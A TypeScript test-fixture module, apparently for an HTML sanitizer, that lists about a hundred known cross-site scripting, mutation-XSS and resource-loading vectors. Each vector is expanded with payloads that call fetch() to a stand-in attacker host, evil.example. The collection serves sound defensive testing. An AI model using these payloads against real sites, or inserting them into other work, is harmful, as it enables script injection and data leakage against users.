/**
 * Pages that try to run, to leak or to break out: known cross-site scripting and mutation vectors, and everything we know
 * that makes a browser load something. RUN stands for code that tells on itself; LEAK for an address elsewhere.
 */

export type HostilePage = { readonly name: string; readonly html: string }

const run = "(window.__ran=(window.__ran||0)+1,fetch('https://evil.example/ran'))"
const leak = 'https://evil.example/leak'

const sources: readonly (readonly [string, string])[] = [
  [
    'script in a shadow tree',
    '<div><template shadowrootmode=open><script>RUN</script><img src=LEAK.png onerror="RUN"><style>@import "LEAK.css"</style><slot onslotchange="RUN"></slot></template>x</div>',
  ],
  [
    'script in nested templates',
    '<div><template shadowrootmode=open><template shadowrootmode=open><script>RUN</script></template></template></div>',
  ],
  ['font ahead from elsewhere', '<link rel=preload as=font href="LEAK.woff2" crossorigin>'],
  ['script element', '<script>RUN</script>'],
  ['script from elsewhere', '<script src="LEAK.js"></script>'],
  ['module script', '<script type="module">RUN</script>'],
  ['script in svg', '<svg><script>RUN</script></svg>'],
  ['script in svg by href', '<svg><script href="data:text/javascript,RUN"></script></svg>'],
  ['script in math', '<math><script>RUN</script></math>'],
  ['broken script tag', '<scr<script>ipt>RUN</script>'],
  ['script after null', '<scr\u0000ipt>RUN</scr\u0000ipt>'],
  ['img onerror', '<img src=x onerror="RUN">'],
  ['img onerror with slashes', '<img/src=x/onerror=RUN>'],
  ['body onload', '<body onload="RUN">'],
  ['svg onload', '<svg onload="RUN"><circle r=4 /></svg>'],
  ['svg animate onbegin', '<svg><animate onbegin="RUN" attributeName="x" dur="1s"/></svg>'],
  ['svg set href', '<svg><a><set attributeName="href" to="javascript:RUN"/><text y=20>x</text></a></svg>'],
  [
    'svg animate href values',
    '<svg><a><animate attributeName="href" values="javascript:RUN"/><text y=20>x</text></a></svg>',
  ],
  ['details ontoggle', '<details open ontoggle="RUN">x</details>'],
  ['input autofocus onfocus', '<input autofocus onfocus="RUN">'],
  ['select autofocus', '<select autofocus onfocus="RUN"><option>x</select>'],
  ['tabindex onfocus', '<p tabindex=1 id=x onfocus="RUN">x</p>'],
  ['video onerror', '<video><source onerror="RUN"></video>'],
  ['audio src', '<audio src="LEAK.mp3" autoplay></audio>'],
  ['video poster', '<video poster="LEAK.png" src="LEAK.mp4" autoplay></video>'],
  ['track', '<video><track default src="LEAK.vtt"></video>'],
  ['marquee onstart', '<marquee onstart="RUN">x</marquee>'],
  ['css animation event', '<style>@keyframes x{}</style><p style="animation-name:x" onanimationstart="RUN">x</p>'],
  ['javascript link', '<a href="javascript:RUN" id=click>x</a>'],
  ['javascript link with tab', '<a href="java\tscript:RUN">x</a>'],
  ['javascript link with entity', '<a href="jav&#x09;ascript:RUN">x</a>'],
  ['javascript link with control', '<a href="\u0001javascript:RUN">x</a>'],
  ['javascript area', '<map name=m><area href="javascript:RUN" shape=default></map><img usemap="#m" src=x>'],
  ['vbscript link', '<a href="vbscript:msgbox(1)">x</a>'],
  ['data html link', '<a href="data:text/html,<script>RUN</script>">x</a>'],
  ['base with javascript', '<base href="javascript:/RUN//"><a href="#x">x</a>'],
  ['base elsewhere', '<base href="https://evil.example/"><img src="leak.png"><link rel=stylesheet href="leak.css">'],
  ['iframe srcdoc', '<iframe srcdoc="<script>RUN</script>"></iframe>'],
  ['iframe elsewhere', '<iframe src="LEAK"></iframe>'],
  ['iframe javascript', '<iframe src="javascript:RUN"></iframe>'],
  ['frameset', '<frameset><frame src="LEAK"></frameset>'],
  ['object data', '<object data="LEAK.swf"></object><object data="data:text/html,<script>RUN</script>"></object>'],
  ['embed', '<embed src="LEAK.svg">'],
  ['applet', '<applet code="x" archive="LEAK.jar"></applet>'],
  ['portal and fenced frame', '<portal src="LEAK"></portal><fencedframe src="LEAK"></fencedframe>'],
  ['form action', '<form action="LEAK" id=f><input name=a value=b><button autofocus>x</button></form>'],
  ['button formaction', '<form><button formaction="javascript:RUN">x</button></form>'],
  ['image input', '<input type=image src="LEAK.png">'],
  ['isindex', '<isindex action="javascript:RUN" type=submit>'],
  ['meta refresh', '<meta http-equiv="refresh" content="0;url=LEAK">'],
  ['meta refresh to script', '<meta http-equiv="refresh" content="0;url=javascript:RUN">'],
  [
    'meta csp and cookie',
    '<meta http-equiv="Content-Security-Policy" content="report-uri LEAK; img-src *"><meta http-equiv="Set-Cookie" content="a=b">',
  ],
  [
    'preload, prefetch, prerender',
    '<link rel=preload as=image href="LEAK.png"><link rel=prefetch href="LEAK"><link rel=prerender href="LEAK"><link rel=modulepreload href="LEAK.js">',
  ],
  [
    'preconnect and dns',
    '<link rel=preconnect href="https://evil.example"><link rel=dns-prefetch href="//evil.example">',
  ],
  [
    'manifest and icons',
    '<link rel=manifest href="LEAK.json"><link rel=icon href="LEAK.ico"><link rel="apple-touch-icon" href="LEAK.png">',
  ],
  ['import link', '<link rel=import href="LEAK.html">'],
  ['speculation rules', '<script type="speculationrules">{"prefetch":[{"source":"list","urls":["LEAK"]}]}</script>'],
  [
    'import map',
    '<script type="importmap">{"imports":{"a":"LEAK.js"}}</script><script type=module>import "a"</script>',
  ],
  ['stylesheet elsewhere', '<link rel=stylesheet href="LEAK.css">'],
  ['import in style', '<style>@import "LEAK.css"; @import url(LEAK.css); @im\\70ort url("LEAK.css");</style>'],
  [
    'background url',
    '<p style="background:url(LEAK.png)">x</p><p style="background-image:url(&quot;LEAK.png&quot;)">x</p>',
  ],
  [
    'escaped url function',
    '<p style="background:\\75 rl(LEAK.png)">x</p><style>p{background:u\\72l("LEAK.png")}</style>',
  ],
  ['url with comments', '<style>p{background:url(/**/LEAK.png)}p{background:ur/**/l(LEAK.png)}</style><p>x'],
  [
    'image-set',
    '<style>p{background:image-set("LEAK.png" 1x)}p{background:-webkit-image-set(url(LEAK.png) 1x)}</style><p>x',
  ],
  ['image-set from variable', '<style>p{--a:"LEAK.png";background:image-set(var(--a) 1x)}</style><p>x'],
  ['url from variable', '<style>:root{--u:url(LEAK.png)}p{background:var(--u)}</style><p>x'],
  [
    'registered property',
    '<style>@property --u{syntax:"<image>";inherits:true;initial-value:url(LEAK.png)}p{background:var(--u)}</style><p>x',
  ],
  [
    'src function',
    '<style>p{background:src("LEAK.png")}@font-face{font-family:x;src:src("LEAK.woff")}p{font-family:x}</style><p>x',
  ],
  [
    'cross-fade and image',
    '<style>p{background:cross-fade(url(LEAK.png),red)}p{background:image("LEAK.png")}p{background:-webkit-cross-fade(url("LEAK.png"),url("LEAK.png"),50%)}</style><p>x',
  ],
  [
    'font face',
    '<style>@font-face{font-family:x;src:url(LEAK.woff2) format("woff2"),url("LEAK.ttf")}p{font-family:x}</style><p>text',
  ],
  [
    'cursor, list, content, mask',
    '<style>p{cursor:url(LEAK.cur),auto;list-style:url(LEAK.png);mask:url(LEAK.svg#a);-webkit-mask-image:url(LEAK.png)}p::before{content:url(LEAK.png)}</style><p>x',
  ],
  [
    'filter, clip, shape, border',
    '<style>p{filter:url(LEAK.svg#f);clip-path:url(LEAK.svg#c);shape-outside:url(LEAK.png);float:left;border-image:url(LEAK.png) 1}</style><p>x',
  ],
  [
    'attribute selectors leak',
    '<style>input[value^=a]{background:url(LEAK?a)}p[title^=x]{background:url(LEAK?x)}</style><p title=xy>x<input value=abc>',
  ],
  [
    'supports, layer, nested',
    '<style>@supports (display:grid){@layer a{p{&:hover,&{background:url(LEAK.png)}}}}@container (min-width:1px){p{background:url(LEAK.png)}}</style><p>x',
  ],
  [
    'css expression and binding',
    '<p style="width:expression(RUN);behavior:url(LEAK.htc);-moz-binding:url(LEAK.xml#x)">x</p>',
  ],
  [
    'alpha image loader',
    '<p style="filter:progid:DXImageTransform.Microsoft.AlphaImageLoader(src=\'LEAK.png\')">x</p>',
  ],
  ['style closes itself', '<style>p{content:"\\3c/style>\\3cscript>RUN\\3c/script>"}</style><p>x'],
  ['style ended by string', '<style>a{content:"</style><img src=x onerror=RUN>"}</style>'],
  ['style attribute breaks out', '<p style="x:\'&quot;&gt;&lt;img src=x onerror=RUN&gt;\'">x</p>'],
  [
    'css escape of lt',
    '<style>@media \\</style\\>{p{color:red}}p\\</style\\>\\<img\\ src=x\\ onerror=RUN\\>{color:red}</style><p>x',
  ],
  ['unclosed url', '<style>p{background:url("LEAK.png</style><p>x'],
  [
    'svg image elsewhere',
    '<svg><image href="LEAK.png" width=9 height=9 /><image xlink:href="LEAK.png" width=9 height=9 /></svg>',
  ],
  [
    'svg use elsewhere',
    '<svg><use href="LEAK.svg#a"/><use xlink:href="data:image/svg+xml,<svg id=a onload=RUN></svg>#a"/></svg>',
  ],
  [
    'svg foreignObject',
    '<svg><foreignObject><iframe srcdoc="<script>RUN</script>"></iframe><img src=x onerror=RUN></foreignObject></svg>',
  ],
  [
    'svg paint elsewhere',
    '<svg><rect width=9 height=9 fill="url(LEAK.svg#a)" style="fill:url(LEAK.svg#b)" filter="url(LEAK.svg#c)"/></svg>',
  ],
  [
    'svg style element',
    '<svg><style>@import "LEAK.css";rect{fill:url(LEAK.svg#a)}</style><rect width=9 height=9 /></svg>',
  ],
  [
    'svg feImage',
    '<svg><filter id=f><feImage href="LEAK.png"/></filter><rect width=9 height=9 filter="url(#f)"/></svg>',
  ],
  [
    'svg handler and discard',
    '<svg><handler xmlns:ev="http://www.w3.org/2001/xml-events" ev:event="load">RUN</handler><discard onbegin="RUN"/></svg>',
  ],
  [
    'svg data image with script',
    "<img src=\"data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='RUN'><image href='LEAK.png'/></svg>\">",
  ],
  ['data html image', '<img src="data:text/html,<script>RUN</script>"><img src="data:image/png;base64,PHNjcmlwdD4=">'],
  ['mutation: noscript', '<noscript><p title="</noscript><img src=x onerror=RUN>"></noscript>'],
  ['mutation: style in svg', '<svg></p><style><a id="</style><img src=1 onerror=RUN>"></style></svg>'],
  [
    'mutation: math mtext',
    '<form><math><mtext></form><form><mglyph><style></math><img src onerror=RUN></style></mglyph></form></mtext></math>',
  ],
  [
    'mutation: table in mtext',
    '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=RUN&gt;"></table></mtext></math>',
  ],
  [
    'mutation: annotation-xml',
    '<math><annotation-xml encoding="text/html"><style><img src=x onerror="RUN"></style></annotation-xml></math>',
  ],
  [
    'mutation: svg title and desc',
    '<svg><title><style><img title="</style></title><img src=x onerror=RUN>"></style></title><desc><img src=x onerror=RUN></desc></svg>',
  ],
  ['mutation: template', '<template><img src=x onerror=RUN><script>RUN</script></template>'],
  [
    'mutation: shadow root',
    '<div><template shadowrootmode=open><img src=x onerror=RUN><img src="LEAK.png"></template></div>',
  ],
  ['mutation: select', '<select><style></select><img src=x onerror=RUN></style></select>'],
  [
    'mutation: xmp and noembed',
    '<xmp><p title="</xmp><img src=x onerror=RUN>"></xmp><noembed><p title="</noembed><img src=x onerror=RUN>"></noembed>',
  ],
  [
    'mutation: textarea and title',
    '<textarea><p title="</textarea><img src=x onerror=RUN>"></textarea><title><p title="</title><img src=x onerror=RUN>"></title>',
  ],
  ['mutation: plaintext', '<plaintext><img src=x onerror=RUN>'],
  [
    'mutation: comments',
    '<!--><img src=x onerror=RUN>--><!--x--!><img src=x onerror=RUN><!-- --!><img src=x onerror=RUN>',
  ],
  [
    'mutation: cdata',
    '<svg><![CDATA[><img src=x onerror=RUN>]]></svg><math><![CDATA[</math><img src=x onerror=RUN>]]></math>',
  ],
  [
    'mutation: processing',
    '<?xml-stylesheet href="LEAK.xsl" type="text/xsl"?><!DOCTYPE x [<!ENTITY e SYSTEM "LEAK">]><p>&e;',
  ],
  ['mutation: backticks', '<img alt="``onerror=RUN" src=x><p title="`><script>RUN</script>">x</p>'],
  ['attribute names', '<p x"onclick="RUN" =onclick=RUN ONCLICK=RUN on-click=RUN>x</p><a/href="javascript:RUN"/x>y</a>'],
  [
    'srcset elsewhere',
    '<img srcset="LEAK.png 1x, LEAK2.png 2x"><picture><source srcset="LEAK.webp"><img src="LEAK.png"></picture>',
  ],
  [
    'lazy attributes elsewhere',
    '<img data-src="LEAK.png" data-srcset="LEAK.png 2x" src=x loading=lazy><p data-bg="LEAK.png" data-background="url(LEAK.png)">x',
  ],
  [
    'lazy background breaks out',
    '<p data-bg="x);background:url(LEAK.png">x</p><p data-bg="&quot;);background:url(LEAK.png">x</p>',
  ],
  [
    'table background',
    '<body background="LEAK.png"><table background="LEAK.png"><tr><td background="LEAK.png">x</table>',
  ],
  ['ping and attribution', '<a href="#x" ping="LEAK" attributionsrc="LEAK">x</a><img src=x attributionsrc="LEAK">'],
  ['custom element attributes', '<x-y onclick=RUN style="background:url(LEAK.png)" is="x">x</x-y>'],
  [
    'model-viewer and unknown loads',
    '<amp-img src="LEAK.png"></amp-img><bgsound src="LEAK.mid"><image src="LEAK.png"></image><img longdesc="LEAK" src=x>',
  ],
  [
    'credentials in links',
    '<a href="https://ana.example@evil.example/">x</a><a href="//evil.example/">y</a><a href="\\\\evil.example\\x">z</a>',
  ],
  ['utf-7 and odd charset', '<meta charset="utf-7">+ADw-script+AD4-RUN+ADw-/script+AD4-'],
  ['deep nesting', `${'<div>'.repeat(3000)}<script>RUN</script><img src=x onerror=RUN>`],
  [
    'many attributes',
    `<p ${Array.from({ length: 400 }, (_, i) => `a${i}=1`).join(' ')} onclick=RUN style="background:url(LEAK.png)">x`,
  ],
]

export const hostilePages: readonly HostilePage[] = sources.map(([name, html]) => ({
  name,
  html: `<!doctype html><title>case</title><p>before</p>${html.replaceAll('RUN', run).replaceAll('LEAK', leak)}<p>after</p>`,
}))
